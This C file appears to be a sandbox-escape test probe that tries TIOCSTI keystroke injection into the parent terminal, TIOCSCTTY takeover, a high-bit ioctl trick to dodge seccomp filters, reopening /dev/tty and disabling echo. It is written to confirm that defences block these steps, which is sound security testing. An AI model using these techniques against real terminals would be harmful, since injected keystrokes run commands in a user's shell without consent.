/* esc-tty.c — hostile program: push keystrokes into the terminal airlock was started from (TIOCSTI), and take that terminal over. */
/*
 * Usage: esc-tty inject HEX-TEXT     decode HEX-TEXT and push it byte by byte with
 *                                    ioctl(0, TIOCSTI) into the terminal on stdin; then try
 *                                    to make that terminal ours (TIOCSCTTY, also "steal")
 *                                    and push again; open /dev/tty
 *        esc-tty termios             switch the terminal's echo off (tcsetattr on stdin)
 * The text arrives hex-encoded so that it appears on the terminal only if it was really
 * injected (a terminal echoes what it receives). The driver injects a harmless comment
 * without a newline. Only results are printed, never the text.
 * Expected defence: setsid in the payload (the terminal is not our controlling tty, so
 * TIOCSTI and TIOCSCTTY fail), seccomp (TIOCSTI: EPERM, whatever the tty), no
 * CAP_SYS_ADMIN (TIOCSCTTY steal).
 */
#include "esc.h"

#include <sys/ioctl.h>
#include <termios.h>

static int inject(const char *text, const char *name)
{
	int pushed = 0, err = 0;
	for (const char *p = text; *p; p++) {
		if (ioctl(0, TIOCSTI, p) < 0) {
			err = errno;
			break;
		}
		pushed++;
	}
	if (err)
		printf("%s=%s\n", name, esc_errname(err));
	else
		printf("%s=OK\n", name);
	printf("%s-bytes=%d\n", name, pushed);
	return pushed;
}

static int unhex(const char *hex, char *out, size_t size)
{
	size_t n = strlen(hex) / 2;
	if (n + 1 > size)
		return -1;
	for (size_t i = 0; i < n; i++) {
		unsigned v;
		if (sscanf(hex + 2 * i, "%2x", &v) != 1)
			return -1;
		out[i] = (char)v;
	}
	out[n] = '\0';
	return 0;
}

int main(int argc, char **argv)
{
	esc_init();
	if (argc == 3 && strcmp(argv[1], "inject") == 0) {
		char text[256];
		if (unhex(argv[2], text, sizeof(text)) < 0)
			return 2;
		printf("stdin-isatty=%d\n", isatty(0));
		printf("sid=%d pid=%d\n", (int)getsid(0), (int)getpid());
		inject(text, "tiocsti");
		esc_report("tiocsctty", ioctl(0, TIOCSCTTY, 0));
		esc_report("tiocsctty-steal", ioctl(0, TIOCSCTTY, 1));
		inject(text, "tiocsti-after-sctty");
		/* The upper 32 bits of cmd are ignored by the kernel: a filter must not be fooled. */
		unsigned long hi = 0x100000000UL | TIOCSTI;
		esc_report("tiocsti-hi", ioctl(0, hi, text));
		int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
		esc_report("open-dev-tty", fd);
		if (fd >= 0) {
			int saved = dup(0);
			dup2(fd, 0);
			inject(text, "tiocsti-dev-tty");
			dup2(saved, 0);
			close(fd);
		}
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "termios") == 0) {
		struct termios t;
		if (esc_report("tcgetattr", tcgetattr(0, &t)) < 0)
			return 0;
		t.c_lflag &= ~(tcflag_t)(ECHO | ICANON);
		esc_report("tcsetattr-noecho", tcsetattr(0, TCSANOW, &t));
		return 0;
	}
	fprintf(stderr, "usage: esc-tty inject HEX-TEXT | termios\n");
	return 2;
}
